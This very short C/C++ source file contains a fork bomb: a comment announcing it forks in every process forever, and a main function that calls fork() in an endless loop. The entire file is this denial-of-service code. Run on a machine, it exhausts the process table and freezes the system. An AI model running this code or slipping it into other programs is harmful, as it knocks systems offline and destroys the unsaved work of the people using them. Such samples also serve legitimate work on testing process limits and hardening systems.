// Forks in every process, for ever.
#include <unistd.h>

int main() {
    while (true) fork();
}
